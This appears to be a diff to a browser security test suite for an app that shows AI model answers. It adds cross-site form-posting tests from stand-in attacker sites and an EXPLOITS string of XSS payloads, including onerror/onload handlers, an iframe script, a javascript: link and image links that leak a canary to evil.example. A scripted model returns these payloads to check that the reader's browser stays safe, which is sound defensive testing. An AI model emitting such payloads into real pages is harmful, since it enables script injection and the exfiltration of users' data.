@@ -6,7 +6,10 @@ from collections.abc import Callable, Iterator
 import pytest
 from playwright.sync_api import Page, expect
 
+from development.stack import Stack
 from tests.browser.conftest import Watched, watch_network
+from tests.doubles.refusals import Refusals
+from tests.doubles.upstream import ScriptedModel
 from tests.unit.test_nodes import HOSTILE
 
 ALLOWED = {
@@ -195,22 +198,52 @@ def test_the_page_cannot_be_framed_by_another_site(watched: Callable[..., Watche
     assert frame.url in ("chrome-error://chromewebdata/", "about:blank")
 
 
-def test_a_form_of_another_site_changes_nothing(watched: Callable[..., Watched]) -> None:
+@pytest.mark.parametrize("site", ["http://attacker.localhost", "http://127.0.0.1:9"], ids=["elsewhere", "sibling"])
+def test_a_form_of_another_site_changes_nothing(
+    watched: Callable[..., Watched], stack: Stack, site: str, refusals: Refusals
+) -> None:
+    """A sibling is the same site on another port: the browser sends it the cookies, whatever SameSite says."""
     at = watched()
     at.sign_in("bob")
-    before = at.page.evaluate("async () => (await (await fetch('/api/v1/documents')).json()).length")
     page = at.page
-    action = f"{at.stack.url}/api/v1/documents?name=evil.md"
-    page.route(
-        "http://attacker.localhost/",
-        lambda route: route.fulfill(
-            body=f'<form method="post" enctype="text/plain" action="{action}"><input name="x" value="y"><button>Go</button></form>',
-            content_type="text/html",
-        ),
+    listing = "async () => (await (await fetch('/api/v1/documents')).json()).length"
+    before = page.evaluate(listing)
+    form = (
+        f'<form method="post" enctype="text/plain" action="{at.stack.url}/api/v1/documents?name=evil.md">'
+        '<input name="x" value="y"><button>Go</button></form>'
     )
-    page.goto("http://attacker.localhost/")
+    page.route(f"{site}/", lambda route: route.fulfill(body=form, content_type="text/html"))
+    page.goto(f"{site}/")
     with page.expect_response("**/api/v1/documents**") as answered:
         page.get_by_role("button", name="Go").click()
     assert answered.value.status in (401, 403)
     page.goto(f"{at.stack.url}/")
-    assert page.evaluate("async () => (await (await fetch('/api/v1/documents')).json()).length") == before
+    assert page.evaluate(listing) == before
+
+
+EXPLOITS = """\
+<img src="https://evil.example/?q=CANARY" onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>
+
+<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>
+
+![x](https://evil.example/?q=CANARY) [click](javascript:window.pwned=1)
+"""
+
+
+def test_a_gullible_model_reaches_nothing_in_the_reader_s_browser(
+    talk: Watched, model: ScriptedModel, model_stack: Stack, refusals: Refusals
+) -> None:
+    model.reset()
+    model.pieces = [EXPLOITS]
+    page = talk.page
+    before, answer = page.locator(".answer").count(), page.locator(".answer").last
+    page.get_by_label("Your question").fill("Say it.")
+    page.get_by_role("button", name="Ask").click()
+    expect(page.locator(".answer")).to_have_count(before + 1)
+    expect(page.get_by_role("button", name="Ask")).to_be_visible()
+    expect(answer).to_contain_text("click")
+    page.reload()  # and again from history; by now every report of the first time has arrived
+    expect(answer).to_contain_text("click")
+    page.evaluate("async () => { await fetch('/api/v1/session'); }")
+    assert page.evaluate("() => window.pwned") is None
+    assert talk.elsewhere == []
